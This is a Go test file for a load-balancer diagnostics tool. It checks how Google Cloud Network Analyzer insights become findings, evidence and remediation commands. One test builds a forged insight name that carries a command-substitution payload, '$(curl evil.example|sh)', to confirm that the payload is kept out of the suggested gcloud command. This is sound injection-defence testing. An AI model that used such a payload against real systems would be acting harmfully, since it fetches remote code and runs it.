package lb

import (
	"strings"
	"testing"
	"time"

	compute "google.golang.org/api/compute/v1"

	"github.com/lbdiag/lbdiag/inspect"
	"github.com/lbdiag/lbdiag/inspect/rules/ruletest"
	"github.com/lbdiag/lbdiag/inventory"
)

// insightsProject is a global load balancer (forwarding rule shop-fr →
// proxy shop-proxy → URL map shop → backend service shop-bs, with session
// affinity, on an instance group in balancing mode mode) and a regional
// backend service api-bs in europe-west1. Network Analyzer was read in
// "global" with the given insights; europe-west1's read was denied.
func insightsProject(mode string, insights ...inventory.Insight) *inventory.Inventory {
	inv := ruletest.LBProject()
	inv.Compute.BackendServices = []*compute.BackendService{
		{Name: "shop-bs", SelfLink: ruletest.G("global/backendServices/shop-bs"), LoadBalancingScheme: "EXTERNAL_MANAGED", Protocol: "HTTP",
			SessionAffinity: "CLIENT_IP", Backends: []*compute.Backend{{Group: ruletest.G("zones/europe-west1-b/instanceGroups/shop-ig"), BalancingMode: mode}}},
		{Name: "api-bs", SelfLink: ruletest.G("regions/europe-west1/backendServices/api-bs"), Region: ruletest.G("regions/europe-west1"),
			LoadBalancingScheme: "INTERNAL_MANAGED", Protocol: "HTTP"},
	}
	inv.Compute.URLMaps = []*compute.UrlMap{{Name: "shop", SelfLink: ruletest.G("global/urlMaps/shop"), DefaultService: ruletest.G("global/backendServices/shop-bs")}}
	inv.Compute.TargetHTTPProxies = []*compute.TargetHttpProxy{{Name: "shop-proxy", SelfLink: ruletest.G("global/targetHttpProxies/shop-proxy"), UrlMap: ruletest.G("global/urlMaps/shop")}}
	inv.Compute.ForwardingRules = []*compute.ForwardingRule{ruletest.ForwardingRuleTo("shop-fr", ruletest.G("global/targetHttpProxies/shop-proxy"), "203.0.113.10", "80-80")}
	inv.Insights = &inventory.Insights{Locations: []string{"global", "europe-west1"}, ByLocation: map[string][]inventory.Insight{"global": insights}}
	inv.Coverage = append(inv.Coverage,
		inventory.Coverage{Source: inventory.RecommenderLBInsights, Scope: inventory.InsightScope(ruletest.Project, "global"), Status: inventory.StatusOK},
		inventory.Coverage{Source: inventory.RecommenderLBInsights, Scope: inventory.InsightScope(ruletest.Project, "europe-west1"), Status: inventory.StatusError,
			Error: "googleapi: Error 403: Permission 'recommender.networkAnalyzerLoadBalancerInsights.list' denied on resource", Hint: "missing IAM permission"})
	return inv
}

var insightRefreshed = time.Date(2026, 11, 28, 7, 2, 4, 0, time.UTC)

// affinityInsight is Network Analyzer's BALANCING_MODE_BREAKS_SESSION_AFFINITY
// on shop-bs; firewallInsight its HEALTH_CHECK_FIREWALL_NOT_CONFIGURED on
// shop-fr, naming the URL map shop as the load balancer.
func affinityInsight(state string) inventory.Insight {
	return inventory.Insight{Name: "projects/123/locations/global/insightTypes/" + inventory.LBInsightType + "/insights/aff-1", Location: "global",
		Subtype: "BALANCING_MODE_BREAKS_SESSION_AFFINITY", Description: "Backend service balancing mode breaks session affinity", State: state,
		Category: "PERFORMANCE", Severity: "LOW", LastRefresh: insightRefreshed, ObservationPeriod: "3611220.2s",
		Resources: []string{"projects/" + ruletest.Project + "/global/backendServices/shop-bs"}}
}

func firewallInsight() inventory.Insight {
	return inventory.Insight{Name: "projects/123/locations/global/insightTypes/" + inventory.LBInsightType + "/insights/fw-1", Location: "global",
		Subtype: "HEALTH_CHECK_FIREWALL_NOT_CONFIGURED", Description: "Health check firewall is not configured", State: "ACTIVE", Severity: "MEDIUM",
		LastRefresh: insightRefreshed, Resources: []string{"projects/" + ruletest.Project + "/global/forwardingRules/shop-fr", "projects/" + ruletest.Project + "/global/urlMaps/shop"},
		Content: `{"loadBalancerName":"shop"}`}
}

// TestNetworkAnalyzerInsight: alone, each active insight of a location
// read is a finding, unconfirmed; the load balancers of the locations
// read are judged, those of a location whose read was denied are a place
// the rule could not check.
func TestNetworkAnalyzerInsight(t *testing.T) {
	t.Parallel()
	inv := insightsProject("RATE", affinityInsight("ACTIVE"), firewallInsight(), affinityInsight("DISMISSED"))
	fs := ruletest.Run(t, inv, NetworkAnalyzerInsight)
	ruletest.Expect(t, fs,
		`BackendService /shop-bs: Network Analyzer reports BALANCING_MODE_BREAKS_SESSION_AFFINITY on backend service shop-bs: "Backend service balancing mode breaks session affinity" (insight aff-1, refreshed 2026-11-28T07:02:04Z); lbdiag did not confirm it`,
		`ForwardingRule /shop-fr: Network Analyzer reports HEALTH_CHECK_FIREWALL_NOT_CONFIGURED on forwarding rule shop-fr and URL map shop: "Health check firewall is not configured" (insight fw-1`)
	ev := fs[1].Evidence
	if ev["insightId"] != "fw-1" || ev["subtype"] != "HEALTH_CHECK_FIREWALL_NOT_CONFIGURED" || ev["description"] != "Health check firewall is not configured" ||
		ev["lastRefreshTime"] != "2026-11-28T07:02:04Z" || ev["location"] != "global" || ev["content"] != `{"loadBalancerName":"shop"}` {
		t.Errorf("evidence %v", ev)
	}
	if fix := fs[1].Remediation; !strings.Contains(fix, "gcloud recommender insights describe fw-1 --insight-type=google.networkanalyzer.networkservices.loadBalancerInsight --location=global --project="+ruletest.Project) ||
		!strings.Contains(fix, "35.191.0.0/16") {
		t.Errorf("remediation %s", fix)
	}
	// An insight name a bundle could forge reaches the command only as a
	// placeholder.
	forged := affinityInsight("ACTIVE")
	forged.Name += "$(curl evil.example|sh)"
	if got := ruletest.Run(t, insightsProject("RATE", forged), NetworkAnalyzerInsight); len(got) != 1 ||
		!strings.HasPrefix(got[0].Remediation, "gcloud recommender insights describe INSIGHT_ID --insight-type") || strings.Contains(got[0].Remediation, "evil") {
		t.Errorf("forged insight's fix: %q", ruletest.Messages(got))
	}
	// Judged: the two resources the findings are on; URL map shop, which
	// fw-1 also names, has not passed; api-bs's europe-west1 could not be
	// read.
	c := ruletest.ExpectCounts(t, inv, NetworkAnalyzerInsight, ruletest.Counts{Judged: 2, Failed: 2, CouldNotCheck: 1})
	if !strings.Contains(strings.Join(c.Reasons, " "), "projects/"+ruletest.Project+"/locations/europe-west1: recommender.loadBalancerInsights error") {
		t.Errorf("reasons %q", c.Reasons)
	}

	// An insight on the project itself (no load-balancing resource) is
	// reported on the project.
	project := affinityInsight("ACTIVE")
	project.Resources = nil
	ruletest.Expect(t, ruletest.Run(t, insightsProject("RATE", project), NetworkAnalyzerInsight),
		"Project /"+ruletest.Project+": Network Analyzer reports BALANCING_MODE_BREAKS_SESSION_AFFINITY on project "+ruletest.Project)

	// Without --network-analyzer nothing is judged and nothing is a gap;
	// asked for and refused everywhere, every location is a gap.
	inv = insightsProject("RATE")
	inv.Insights = nil
	inv.Coverage = inv.Coverage[:len(inv.Coverage)-2]
	ruletest.ExpectCounts(t, inv, NetworkAnalyzerInsight, ruletest.Counts{})
	inv = insightsProject("RATE")
	inv.Insights = nil
	ruletest.FailSource(inv, inventory.RecommenderLBInsights, inventory.InsightScope(ruletest.Project, "global"))
	ruletest.ExpectCounts(t, inv, NetworkAnalyzerInsight, ruletest.Counts{CouldNotCheck: 2})
}

// TestNetworkAnalyzerInsightSecondOpinion: an insight lbdiag agrees with
// is evidence of lbdiag's finding, not a row; one that lbdiag's rule for
// the same thing judged and passed says so; an insight whose subtype no
// rule checks joins any finding on its resource.
func TestNetworkAnalyzerInsightSecondOpinion(t *testing.T) {
	t.Parallel()
	// Agreement: shop-bs uses UTILIZATION with session affinity.
	inv := insightsProject("UTILIZATION", affinityInsight("ACTIVE"))
	res := ruletest.RunAll(inv, SessionAffinityUtilization, NetworkAnalyzerInsight)
	if len(res.Findings) != 1 || res.Findings[0].Rule != "session-affinity-utilization" {
		t.Fatalf("findings %q", ruletest.Messages(res.Findings))
	}
	f := res.Findings[0]
	attached, _ := f.Evidence["network-analyzer-insight"].([]map[string]any)
	if len(attached) != 1 || attached[0]["insightId"] != "aff-1" ||
		!strings.Contains(f.Message, `Network Analyzer agrees: BALANCING_MODE_BREAKS_SESSION_AFFINITY "Backend service balancing mode breaks session affinity" (insight aff-1`) {
		t.Errorf("finding %q, evidence %v", f.Message, f.Evidence)
	}

	// Disagreement: RATE keeps affinity; session-affinity-utilization
	// judged shop-bs and passed it.
	inv = insightsProject("RATE", affinityInsight("ACTIVE"))
	res = ruletest.RunAll(inv, SessionAffinityUtilization, NetworkAnalyzerInsight)
	if len(res.Findings) != 1 || res.Findings[0].Rule != "network-analyzer-insight" {
		t.Fatalf("findings %q", ruletest.Messages(res.Findings))
	}
	f = res.Findings[0]
	if !strings.HasSuffix(f.Message, "lbdiag did not confirm it; lbdiag checked it and found no problem: session-affinity-utilization (BackendService shop-bs)") {
		t.Errorf("message %q", f.Message)
	}
	if passed, _ := f.Evidence["passedBy"].([]string); len(passed) != 1 || passed[0] != "session-affinity-utilization (BackendService shop-bs)" {
		t.Errorf("passedBy %v", f.Evidence["passedBy"])
	}

	// A finding of another rule on the insight's forwarding rule: an
	// insight some rule checks (the firewall rules) does not fold into it
	// and "agree"; it stands beside it.
	frRule := &inspect.Rule{ID: "test-forwarding-rule", Severity: inspect.Info, Title: "t", Check: func(p *inspect.Pass) {
		p.Report(inspect.Finding{Resource: inspect.Resource{Kind: "ForwardingRule", Project: ruletest.Project, Location: "global", Name: "shop-fr"},
			Message: "bad forwarding rule", Evidence: map[string]any{"x": 1}, Remediation: "fix"})
	}}
	inv = insightsProject("RATE", firewallInsight())
	res = ruletest.RunAll(inv, frRule, NetworkAnalyzerInsight)
	if len(res.Findings) != 2 || res.Findings[1].Rule != "test-forwarding-rule" || res.Findings[1].Severity != inspect.Info ||
		strings.Contains(res.Findings[1].Message, "Network Analyzer") || res.Findings[0].Rule != "network-analyzer-insight" {
		t.Errorf("firewall insight beside another rule's finding: %q", ruletest.Messages(res.Findings))
	}

	// An insight no rule checks joins any finding on its resources, which
	// it does not claim to agree with.
	other := firewallInsight()
	other.Subtype = "SOME_FUTURE_SUBTYPE"
	inv = insightsProject("RATE", other)
	res = ruletest.RunAll(inv, frRule, NetworkAnalyzerInsight)
	if len(res.Findings) != 1 || res.Findings[0].Rule != "test-forwarding-rule" || res.Findings[0].Evidence["network-analyzer-insight"] == nil ||
		!strings.Contains(res.Findings[0].Message, "Network Analyzer also reports: SOME_FUTURE_SUBTYPE") {
		t.Errorf("findings %q", ruletest.Messages(res.Findings))
	}
}
